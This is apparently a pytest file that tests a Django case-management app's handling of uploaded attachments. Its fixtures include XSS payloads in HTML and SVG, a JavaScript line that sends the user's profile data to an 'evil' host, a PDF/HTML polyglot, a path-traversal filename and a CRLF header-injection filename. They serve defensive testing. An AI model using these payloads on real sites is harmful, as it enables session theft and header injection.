"""Uploads (R-SEC): the type is sniffed from the content, never trusted from the name or the client's
Content-Type; files live under random names outside the web root; downloads pass the access check and are served
as attachments, never sniffed, under a sandboxing policy — an uploaded HTML/SVG/script file never runs."""

from __future__ import annotations

from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve, reverse
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from xinfang.cases.models import Attachment
from xinfang.cases.tests.factories import register
from xinfang.core.otp_testing import complete_second_factor

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JS = b"fetch('/api/v1/me/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
PDF_POLYGLOT = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF"

DISGUISED = [
    ("report.pdf", HTML),
    ("photo.png", SVG),
    ("photo.jpg", JS),
    ("scan.pdf", SVG),
    ("letter.docx", HTML),
    ("sheet.xlsx", JS),
    ("page.html", HTML),
    ("image.svg", SVG),
    ("script.js", JS),
    ("page.htm", HTML),
]


def api(world, username="d1b1.officer") -> APIClient:
    client = APIClient()
    token, _ = Token.objects.get_or_create(user=world.user(username))
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


def files_under(root: Path) -> list[Path]:
    return [p for p in Path(root).rglob("*") if p.is_file()] if Path(root).exists() else []


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return settings.MEDIA_ROOT


@pytest.mark.parametrize(("name", "data"), DISGUISED)
def test_active_content_under_any_name_is_refused_and_nothing_is_stored(world, media, name, data):
    case = register(world)
    before = set(files_under(media))
    upload = SimpleUploadedFile(name, data, content_type="application/pdf")  # the client's type is ignored
    r = api(world).post(f"/api/v1/cases/{case.pk}/attachments/", {"file": upload}, format="multipart")
    assert r.status_code == 400, r.content
    assert r.json()["code"] in ("attachment_type", "attachment_content")
    assert set(files_under(media)) == before
    assert not Attachment.objects.filter(case=case).exists()


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("note.txt", HTML, "text/plain; charset=utf-8"),  # text is allowed; it stays text, never HTML
        ("note.txt", SVG, "text/plain; charset=utf-8"),
        ("scan.pdf", PDF_POLYGLOT, "application/pdf"),
    ],
)
def test_what_is_accepted_is_served_as_a_sandboxed_attachment_never_as_html(
    world, media, client, name, data, content_type
):
    case = register(world)
    upload = SimpleUploadedFile(name, data, content_type="text/html")
    r = api(world).post(f"/api/v1/cases/{case.pk}/attachments/", {"file": upload}, format="multipart")
    assert r.status_code == 201, r.content
    attachment = Attachment.objects.get(pk=r.json()["id"])
    assert attachment.content_type == content_type

    officer = world.user("d1b1.officer")
    client.force_login(officer)
    complete_second_factor(client, officer)
    for response in (
        client.get(reverse("cases:attachment-download", kwargs={"pk": attachment.pk})),
        api(world).get(f"/api/v1/cases/{case.pk}/attachments/{attachment.pk}/"),
    ):
        assert response.status_code == 200
        assert response["Content-Type"] == content_type
        assert "html" not in response["Content-Type"] and "svg" not in response["Content-Type"]
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == django_settings.XINFANG_DOWNLOAD_CSP
        assert b"".join(response.streaming_content) == data


def test_files_get_random_names_outside_the_web_root(world, media):
    case = register(world, attachments=[SimpleUploadedFile("../../static/evil.pdf", b"%PDF-1.4 x")])
    attachment = case.attachments.get()
    stored = Path(attachment.file.path).resolve()
    assert stored.is_relative_to(Path(media).resolve())
    assert "evil" not in stored.name and ".." not in attachment.file.name and attachment.original_name == "evil.pdf"
    static_roots = [Path(django_settings.STATIC_ROOT)] + [
        Path(d[1] if isinstance(d, tuple) else d) for d in django_settings.STATICFILES_DIRS
    ]
    assert not any(stored.is_relative_to(root.resolve()) for root in static_roots)
    assert not getattr(django_settings, "MEDIA_URL", "").strip("/")  # no URL serves MEDIA_ROOT directly
    with pytest.raises(Resolver404):
        match = resolve(f"/{attachment.file.name}")
        if match.url_name is None:  # the API's catch-all answers JSON 404 only
            raise Resolver404
        raise AssertionError(f"a route serves the stored file: {match}")


def test_a_hostile_original_name_cannot_inject_headers(world, media, client):
    case = register(world, attachments=[SimpleUploadedFile('a"\r\nSet-Cookie: x=1;.pdf', b"%PDF-1.4 x")])
    attachment = case.attachments.get()
    officer = world.user("d1b1.officer")
    client.force_login(officer)
    complete_second_factor(client, officer)
    r = client.get(reverse("cases:attachment-download", kwargs={"pk": attachment.pk}))
    assert r.status_code == 200
    assert "\n" not in r["Content-Disposition"] and "\r" not in r["Content-Disposition"]
    assert "x" not in r.cookies


def test_downloads_go_through_the_access_check(world, media, client):
    case = register(world, attachments=[SimpleUploadedFile("a.pdf", b"%PDF-1.4 x")])
    url = reverse("cases:attachment-download", kwargs={"pk": case.attachments.get().pk})
    assert client.get(url).status_code == 302  # anonymous: sign in first
    outsider = world.user("d1b2.officer")
    client.force_login(outsider)
    complete_second_factor(client, outsider)
    assert client.get(url).status_code == 404
    assert (
        api(world, "d1b2.officer").get(f"/api/v1/cases/{case.pk}/attachments/{case.attachments.get().pk}/").status_code
        == 404
    )


def test_the_one_sniffer_names_each_kind_and_never_raises_on_a_broken_zip():
    """xinfang.core.uploads.sniff serves every upload (attachments, 党委会 minutes)."""
    import io
    import zipfile

    from xinfang.core.uploads import sniff

    def zipped(name: str) -> bytearray:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr(name, "x")
        return bytearray(out.getvalue())

    assert sniff(io.BytesIO(b"%PDF-1.7 ...")) == "pdf"
    assert sniff(io.BytesIO(bytes(zipped("word/document.xml")))) == "docx"
    assert sniff(io.BytesIO(bytes(zipped("xl/workbook.xml")))) == "xlsx"
    assert sniff(io.BytesIO("信访事项".encode("gb18030"))) == "text"
    unsupported = zipped("word/document.xml")
    entry = unsupported.index(b"PK\x01\x02")  # central directory: +6 is the version needed to extract
    unsupported[entry + 6 : entry + 8] = (67).to_bytes(2, "little")
    stream = io.BytesIO(bytes(unsupported))
    assert sniff(stream) == "unknown" and stream.tell() == 0
